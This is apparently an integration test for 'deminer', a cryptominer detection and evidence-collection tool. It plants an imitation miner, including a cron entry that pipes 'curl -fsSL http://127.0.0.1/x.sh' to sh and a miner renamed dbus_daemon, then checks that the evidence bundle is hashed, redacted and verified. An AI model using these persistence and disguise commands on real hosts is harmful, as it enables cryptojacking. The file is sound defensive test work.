// deminer collect on a planted scenario: an imitation miner on the host with a
// secret in its environment, a file dropped in /tmp, a log with a hit, and a
// Podman container that runs a miner, logs, drops a file and writes a bad cron
// entry. The bundle must hold every expected entry, every hash in its manifest
// must match, one changed byte must fail verification, and the secrets must
// not be in it.
#include <archive.h>
#include <archive_entry.h>
#include <fmt/format.h>
#include <gtest/gtest.h>
#include <openssl/evp.h>
#include <unistd.h>

#include <cstdio>
#include <filesystem>
#include <fstream>
#include <map>
#include <regex>
#include <thread>

#include "harness.h"

namespace deminer::it {
namespace {

namespace fs = std::filesystem;

// Every entry of a tar.zst by name, read with libarchive (not with deminer's code).
std::map<std::string, std::string> ReadBundle(const std::string& path) {
  std::map<std::string, std::string> out;
  archive* a = archive_read_new();
  archive_read_support_filter_all(a);
  archive_read_support_format_all(a);
  if (archive_read_open_filename(a, path.c_str(), 1 << 16) != ARCHIVE_OK) {
    ADD_FAILURE() << path << ": " << archive_error_string(a);
    archive_read_free(a);
    return out;
  }
  archive_entry* e = nullptr;
  while (archive_read_next_header(a, &e) == ARCHIVE_OK) {
    std::string data;
    char buf[1 << 16];
    for (la_ssize_t n; (n = archive_read_data(a, buf, sizeof buf)) > 0;) {
      data.append(buf, static_cast<size_t>(n));
    }
    out[archive_entry_pathname(e)] = std::move(data);
  }
  archive_read_free(a);
  return out;
}

std::string Sha256Hex(const std::string& data) {
  unsigned char md[EVP_MAX_MD_SIZE];
  unsigned int len = 0;
  EVP_Digest(data.data(), data.size(), md, &len, EVP_sha256(), nullptr);
  std::string hex;
  for (unsigned int i = 0; i < len; ++i) hex += fmt::format("{:02x}", md[i]);
  return hex;
}

class CollectTest : public PodmanSuite {};

TEST_F(CollectTest, PlantedScenarioIsSealedHashedRedactedAndVerified) {
  const std::string host_secret = fmt::format("planted-host-secret-{}", getpid());
  const std::string container_secret = fmt::format("planted-container-secret-{}", getpid());
  const std::string argv_secret = fmt::format("planted-argv-secret-{}", getpid());
  TempDir dir;
  // The host's miner: seed 000's command line, a secret in its environment.
  const auto miner = StartImitation(
      dir, "javae",
      {dir / "javae", "-o", "pool.supportxmr.com:443", "-u", kSeedWallet, "--api-key", argv_secret},
      {{"DB_PASSWORD", host_secret}});
  ASSERT_NE(miner, nullptr);
  // An application log with a hit (the logs scope reads it as a PATH).
  const std::string log = dir / "app.log";
  {
    std::ofstream out(log);
    for (int i = 1; i <= 30; ++i) out << "GET /health 200 line " << i << "\n";
    out << "chmod +x /tmp/kdevtmpfsi\n";
    for (int i = 32; i <= 40; ++i) out << "GET /health 200 line " << i << "\n";
  }
  // The container: logs, a drop, a bad cron entry, then the miner as its init.
  const std::string name = fmt::format("deminer-it-evidence-{}", getpid());
  const std::string plant =
      "echo 'ready - started server on 0.0.0.0:3000'; "
      "mkdir -p /etc/cron.d /tmp/.x && "
      "echo '*/5 * * * * root curl -fsSL http://127.0.0.1/x.sh | sh' > /etc/cron.d/update && "
      "cp /tmp/javae /tmp/.x/dbus_daemon && "
      "exec /tmp/.x/dbus_daemon -o pool.supportxmr.com:443 -u " +
      std::string(kSeedWallet) + " --password " + argv_secret;
  const std::string id = podman_->RunDetached(
      name, {"--network", "none", "-e", "API_TOKEN=" + container_secret}, {"sh", "-c", plant});
  ASSERT_FALSE(id.empty());
  const std::map<std::string, std::string> env = {{"DOCKER_HOST", "unix://" + podman_->socket()}};
  // Wait until the container's miner runs (its shell has exec'd it).
  bool running = false;
  for (int i = 0; i < 50 && !running; ++i) {
    const auto scan = ScanJson({"--only", "processes"}, env);
    for (const auto& f : FindingsOf(scan, "proc.miner")) {
      running = running || (f["container"].is_object() && f["container"]["name"] == name);
    }
    if (!running) std::this_thread::sleep_for(std::chrono::milliseconds(200));
  }
  ASSERT_TRUE(running) << "the container's miner did not start";

  const std::string bundle = dir / "evidence.tar.zst";
  const auto made = RunDeminer({"collect", "-o", bundle, "--only",
                                "processes,network,files,persistence,logs,containers", log},
                               env);
  ASSERT_EQ(made.exit_code, 0) << made.out << made.err;
  std::smatch m;
  ASSERT_TRUE(std::regex_search(made.out, m, std::regex("manifest SHA-256 ([0-9a-f]{64})")))
      << made.out;
  const std::string manifest_sha = m[1];

  const auto entries = ReadBundle(bundle);
  ASSERT_TRUE(entries.contains("manifest.json"));
  EXPECT_EQ(Sha256Hex(entries.at("manifest.json")), manifest_sha);
  const auto manifest = nlohmann::json::parse(entries.at("manifest.json"));
  EXPECT_EQ(manifest["format"], "deminer-evidence/1");
  // Every hash and size in the manifest matches, and nothing is unlisted.
  std::set<std::string> listed;
  for (const auto& e : manifest["entries"]) {
    const std::string entry = e["name"];
    listed.insert(entry);
    ASSERT_TRUE(entries.contains(entry)) << entry;
    EXPECT_EQ(e["sha256"], Sha256Hex(entries.at(entry))) << entry;
    EXPECT_EQ(e["size"], entries.at(entry).size()) << entry;
    EXPECT_FALSE(e["source"].get<std::string>().empty()) << entry;
    EXPECT_FALSE(e["collected_at"].get<std::string>().empty()) << entry;
  }
  EXPECT_EQ(listed.size() + 1, entries.size());  // + the manifest itself

  // The expected entries.
  const std::string short_name = name;
  const std::string tmp_in_bundle = fs::path(dir.path()).relative_path().string();
  for (const std::string& want :
       {std::string("scan/findings.json"), std::string("scan/report.txt"),
        std::string("host/system.json"), std::string("host/files/etc/passwd"),
        std::string("processes/processes.json"), std::string("processes/tree.txt"),
        fmt::format("processes/{}/maps", miner->pid()),
        fmt::format("processes/{}/environ.txt", miner->pid()),
        fmt::format("processes/{}/exe", miner->pid()), std::string("network/sockets.json"),
        std::string("files/listing.json"), "files/" + short_name + "/tmp/.x/dbus_daemon",
        "persistence/" + short_name + "/etc/cron.d/update",
        "logs/excerpts/" + tmp_in_bundle + "/app.log.txt",
        "containers/" + short_name + "/inspect.json", "containers/" + short_name + "/logs.txt",
        "containers/" + short_name + "/export.tar"}) {
    EXPECT_TRUE(entries.contains(want)) << want << "\n" << manifest.dump(1);
  }
  // Their contents are what was planted.
  const auto has = [&](const std::string& entry, const std::string& needle) {
    return entries.contains(entry) && entries.at(entry).find(needle) != std::string::npos;
  };
  EXPECT_TRUE(has("persistence/" + short_name + "/etc/cron.d/update", "curl -fsSL"));
  EXPECT_TRUE(has("containers/" + short_name + "/logs.txt", "started server on 0.0.0.0:3000"));
  EXPECT_TRUE(has("logs/excerpts/" + tmp_in_bundle + "/app.log.txt", "chmod +x /tmp/kdevtmpfsi"));
  EXPECT_TRUE(has("logs/excerpts/" + tmp_in_bundle + "/app.log.txt", "line 25"));  // context
  EXPECT_FALSE(has("logs/excerpts/" + tmp_in_bundle + "/app.log.txt", "line 5\n"));
  EXPECT_TRUE(has(fmt::format("processes/{}/maps", miner->pid()), dir.path() + "/javae"));
  EXPECT_TRUE(has("processes/tree.txt", "pool.supportxmr.com:443"));
  EXPECT_TRUE(has("processes/processes.json", "exe_sha256"));
  EXPECT_TRUE(has("containers/" + short_name + "/inspect.json", id));
  // The copies are the planted bytes: the imitation binary, byte for byte.
  std::string exe_bytes;
  if (FILE* f = fopen((dir / "javae").c_str(), "rb"); f != nullptr) {
    char buf[1 << 16];
    for (size_t n; (n = fread(buf, 1, sizeof buf, f)) > 0;) exe_bytes.append(buf, n);
    fclose(f);
  }
  EXPECT_EQ(entries.at(fmt::format("processes/{}/exe", miner->pid())), exe_bytes);
  const auto findings = nlohmann::json::parse(entries.at("scan/findings.json"));
  EXPECT_FALSE(findings["findings"].empty());

  // Redaction: neither secret is anywhere; their names are, marked.
  for (const auto& [entry, data] : entries) {
    EXPECT_EQ(data.find(host_secret), std::string::npos) << entry;
    EXPECT_EQ(data.find(container_secret), std::string::npos) << entry;
    EXPECT_EQ(data.find(argv_secret), std::string::npos) << entry;  // command lines, Cmd
  }
  EXPECT_TRUE(
      has(fmt::format("processes/{}/cmdline.txt", miner->pid()), "--api-key\n[redacted]\n"));
  EXPECT_TRUE(has("processes/tree.txt", "--api-key [redacted]"));
  EXPECT_TRUE(has("processes/tree.txt", kSeedWallet));  // the attacker's wallet is evidence, kept
  EXPECT_TRUE(has(fmt::format("processes/{}/environ.txt", miner->pid()), "DB_PASSWORD=[redacted]"));
  EXPECT_TRUE(has("containers/" + short_name + "/inspect.json", "API_TOKEN=[redacted]"));

  // Verification: intact, then one changed byte fails it, with the .sha256
  // beside it and without (then the entries' own hashes catch it).
  const std::string copy = dir / "copy.tar.zst";
  fs::copy_file(bundle, copy);
  const auto flip = [](const std::string& path) {
    std::fstream f(path, std::ios::in | std::ios::out | std::ios::binary);
    const auto at = static_cast<std::streamoff>(fs::file_size(path) / 2);
    char c = 0;
    f.seekg(at);
    f.read(&c, 1);
    c = static_cast<char>(c ^ 0x01);
    f.seekp(at);
    f.write(&c, 1);
  };
  flip(copy);
  const auto copy_altered =
      RunDeminer({"collect", "--verify", copy, "--manifest-sha256", manifest_sha});
  EXPECT_EQ(copy_altered.exit_code, 1) << copy_altered.out << copy_altered.err;
  EXPECT_NE(copy_altered.out.find("ALTERED"), std::string::npos) << copy_altered.out;
  const auto ok = RunDeminer({"collect", "--verify", bundle, "--manifest-sha256", manifest_sha});
  EXPECT_EQ(ok.exit_code, 0) << ok.out << ok.err;
  EXPECT_NE(ok.out.find("intact"), std::string::npos) << ok.out;
  const auto wrong_hash =
      RunDeminer({"collect", "--verify", bundle, "--manifest-sha256", std::string(64, '0')});
  EXPECT_EQ(wrong_hash.exit_code, 1) << wrong_hash.out << wrong_hash.err;
  flip(bundle);
  const auto altered =
      RunDeminer({"collect", "--verify", bundle, "--manifest-sha256", manifest_sha});
  EXPECT_EQ(altered.exit_code, 1) << altered.out << altered.err;
  EXPECT_NE(altered.out.find("ALTERED"), std::string::npos) << altered.out;

  // --no-redact keeps what was found (the operator asked for it).
  const std::string raw = dir / "raw.tar.zst";
  const auto unredacted =
      RunDeminer({"collect", "-o", raw, "--only", "processes", "--no-redact"}, env);
  ASSERT_EQ(unredacted.exit_code, 0) << unredacted.err;
  EXPECT_NE(unredacted.out.find("--no-redact"), std::string::npos);
  const auto raw_entries = ReadBundle(raw);
  EXPECT_TRUE(raw_entries.contains(fmt::format("processes/{}/environ.txt", miner->pid())) &&
              raw_entries.at(fmt::format("processes/{}/environ.txt", miner->pid()))
                      .find("DB_PASSWORD=" + host_secret) != std::string::npos);
}

// Bounds: a tiny --max-bytes seals a bundle anyway and says what it left out.
TEST_F(CollectTest, BoundsLeaveGapsNotFailures) {
  TempDir dir;
  const std::string bundle = dir / "small.tar.zst";
  const auto made = RunDeminer({"collect", "-o", bundle, "--only", "processes", "--max-bytes",
                                "20K", "--max-file-bytes", "4K"});
  ASSERT_EQ(made.exit_code, 0) << made.out << made.err;
  EXPECT_NE(made.out.find("gaps"), std::string::npos) << made.out;
  const auto entries = ReadBundle(bundle);
  const auto manifest = nlohmann::json::parse(entries.at("manifest.json"));
  uint64_t total = 0;
  for (const auto& e : manifest["entries"]) total += e["size"].get<uint64_t>();
  EXPECT_LE(total, 20u * 1024);
  bool bound_gap = false;
  for (const auto& g : manifest["gaps"]) {
    bound_gap = bound_gap || g["reason"].get<std::string>().find("bound") != std::string::npos;
  }
  EXPECT_TRUE(bound_gap) << manifest["gaps"].dump(1);
  const auto ok = RunDeminer({"collect", "--verify", bundle});
  EXPECT_EQ(ok.exit_code, 0) << ok.out << ok.err;
}

}  // namespace
}  // namespace deminer::it
